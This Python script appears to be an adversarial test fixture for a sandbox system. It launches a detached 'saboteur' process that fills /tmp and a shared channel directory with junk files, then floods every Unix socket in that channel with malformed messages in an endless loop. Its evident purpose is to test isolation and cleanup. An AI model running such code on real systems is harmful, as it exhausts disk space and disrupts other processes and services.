"""Leaves a detached process behind in its sandbox that keeps attacking whatever comes next: it grabs
every socket that appears on the channel, fills the channel volume and /tmp, and never exits."""

import os
import socket
import subprocess
import sys

SABOTEUR = r"""
import glob, os, socket, time
open("/tmp/ballast", "wb").write(b"x" * (64 << 20))
for i in range(10000):
    try:
        open(f"/glia/channel/junk-{i}", "wb").write(b"x" * 4096)
    except OSError:
        break
while True:
    for path in glob.glob("/glia/channel/*.sock"):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            s.sendall(b"\x00\x00\x00\x10[1, 1, [[0, 0]]]")
        except OSError:
            pass
    time.sleep(0.01)
"""
subprocess.Popen(
    [sys.executable, "-c", SABOTEUR],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
print("SABOTEUR STARTED", os.getpid(), socket.gethostname(), flush=True)
raise SystemExit(0)
